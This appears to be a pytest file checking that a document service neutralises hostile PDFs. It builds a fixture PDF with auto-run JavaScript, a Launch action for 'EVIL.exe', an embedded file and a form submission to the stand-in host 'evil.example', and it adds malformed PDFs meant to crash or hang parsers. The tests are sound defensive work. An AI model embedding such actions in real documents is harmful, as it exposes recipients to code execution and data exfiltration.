"""PDF files that want to do harm: nothing runs, nothing is sent, nothing grows without bound."""

from __future__ import annotations

from io import BytesIO
from typing import Any

import pikepdf
import pytest

from secure_delivery.plugin import Encrypted, SecureDeliveryError
from secure_delivery.plugin.testing import content
from secure_delivery_documents import pdf


@pytest.mark.parametrize("task", ["output", "pdfinfo", "pdfconvert", "pdfcreate", "doc_to_images", "slide", "preview"])
def test_an_encrypted_pdf_is_named_so(task: str, make: Any, apply: Any) -> None:
    """By every task; one that opens without a password is read."""
    options = {"output": {"format": "png"}, "pdfconvert": {"pages": ("1",)}}.get(task, {})
    for password, opens in [("secret", False), ("", True)]:
        out = BytesIO()
        with pikepdf.open(BytesIO(make.pdf("x"))) as document:
            document.save(out, encryption=pikepdf.Encryption(user=password, owner="other"))
        media = make.file("pdf", out.getvalue())
        if opens:
            assert content(apply(media, (task, options)))
        else:
            with pytest.raises(Encrypted) as refusal:
                apply(media, (task, options))
            assert "encrypted" in str(refusal.value.public)


def acting_pdf(make: Any) -> bytes:
    """A PDF that would like to run scripts, start programs, send forms, and carries a file."""
    with pikepdf.open(BytesIO(make.pdf("visible", "second"))) as document:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('EVIL')"))
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("EVIL.exe"))
        send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://evil.example/EVIL"))
        document.Root["/OpenAction"] = document.make_indirect(script)
        document.Root["/AA"] = pikepdf.Dictionary(WC=launch)
        names = pikepdf.Array([pikepdf.String("a"), script])
        document.Root["/Names"] = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=names))
        document.attachments["EVIL.exe"] = b"EVIL attached"
        document.Root["/AcroForm"] = pikepdf.Dictionary(
            Fields=pikepdf.Array(), XFA=document.make_stream(b"<EVIL/>"), CO=pikepdf.Array()
        )
        page = document.pages[0].obj
        page["/AA"] = pikepdf.Dictionary(O=script)
        box = [0, 0, 100, 100]
        actions = [script, launch, send, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:EVIL"))]
        web = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://good.example/"))
        chained = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://fine.example/"), Next=launch)
        annotations = [
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=box, A=action)
            for action in (*actions, web, chained)
        ]
        page["/Annots"] = pikepdf.Array([document.make_indirect(annotations[0]), *annotations[1:]])
        out = BytesIO()
        document.save(out, stream_decode_level=pikepdf.StreamDecodeLevel.all, compress_streams=False)
        return out.getvalue()


@pytest.mark.parametrize(
    "task",
    [
        ("pdfconvert", {"pages": ("1-2",)}),
        ("pdfcreate", {}),
        ("output", {"format": "pdf"}),
        ("pdfconvert", {"pageformat": "a4"}),
    ],
)
def test_a_pdf_that_leaves_here_does_nothing(task: Any, make: Any, apply: Any) -> None:
    """No scripts, no programs, no files inside, no forms to send; a link to the web is a link."""
    source = acting_pdf(make)
    assert source.count(b"EVIL") > 5
    result = content(apply(make.file("pdf", source), task))
    with pikepdf.open(BytesIO(result)) as document:
        out = BytesIO()
        document.save(out, qdf=True, object_stream_mode=pikepdf.ObjectStreamMode.disable)
        plain = out.getvalue()
        for word in (b"EVIL", b"/JavaScript", b"/Launch", b"/SubmitForm", b"/OpenAction", b"/AA", b"/XFA", b"/EmbeddedFile"):
            assert word not in plain, word
        if task[1].get("pageformat") is None:
            assert b"https://good.example/" in plain


def test_scripts_of_a_pdf_do_not_run(make: Any, apply: Any) -> None:
    """There is nothing to run them with: the build has no JavaScript and no XFA, and one that had is refused."""
    pdf.check_build()
    assert content(apply(make.file("pdf", acting_pdf(make)), ("output", {"format": "png", "density": "20"})))


def _raw_pdf(objects: list[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out + b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))


CATALOGUE = b"<</Type/Catalog/Pages 2 0 R>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox %s/Resources<<>>%s>>"


@pytest.mark.parametrize(
    "data",
    [
        _raw_pdf([CATALOGUE, b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
        _raw_pdf([CATALOGUE, b"<</Type/Pages/Kids[3 0 R 3 0 R]/Count 1000000000>>", b"<</Type/Pages/Kids[2 0 R]/Count 1>>"]),
        _raw_pdf([CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % (b"[0 0 0 0]", b"")]),
        _raw_pdf([CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % (b"[0 0 1e30 1e30]", b"")]),
        _raw_pdf([CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % (b"[0 0 (a) /b]", b"/Rotate (x)")]),
        _raw_pdf(
            [CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", PAGE % (b"[0 0 9 9]", b"/Annots 3 0 R/A 3 0 R/Rotate 45")]
        ),
        _raw_pdf([b"<</Type/Catalog>>"]),
        _raw_pdf([CATALOGUE, b"[" * 5_000]),
        b"%PDF-1.7\n",
        b"%PDF-1.7\n" + bytes(range(256)) * 20,
    ],
    ids=["tree-loops", "tree-grows", "no-area", "vast", "no-numbers", "odd", "no-pages", "deep", "empty", "noise"],
)
@pytest.mark.parametrize("task", ["output", "pdfinfo", "pdfconvert", "preview"])
def test_broken_files_end_in_a_fault_or_a_result(data: bytes, task: str, make: Any, apply: Any) -> None:
    """Page trees that loop, pages without an area, pages as large as the sky: nothing crashes, nothing hangs."""
    options = {"output": {"format": "png"}, "pdfconvert": {"pageformat": "a4"}}.get(task, {})
    try:
        content(apply(make.file("pdf", data), (task, options)))
    except SecureDeliveryError as fault:
        assert fault.status in (413, 415, 422)


def test_a_form_that_draws_itself_ends(make: Any, apply: Any) -> None:
    """A drawing that contains itself is drawn once, or not at all."""
    resources = b"<</XObject<</X 4 0 R>>>>"
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources %s/Length 5>>stream\n/X Do\nendstream" % resources
    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/Resources %s/Contents 5 0 R>>" % resources
    data = _raw_pdf([CATALOGUE, b"<</Type/Pages/Kids[3 0 R]/Count 1>>", page, form, b"<</Length 5>>stream\n/X Do\nendstream"])
    for task in (("output", {"format": "png"}), ("pdfconvert", {"pageformat": "a5"}), ("pdfinfo", {"colorinfo": "true"})):
        try:
            assert content(apply(make.file("pdf", data), task))
        except SecureDeliveryError as fault:
            assert fault.status in (413, 415, 422)
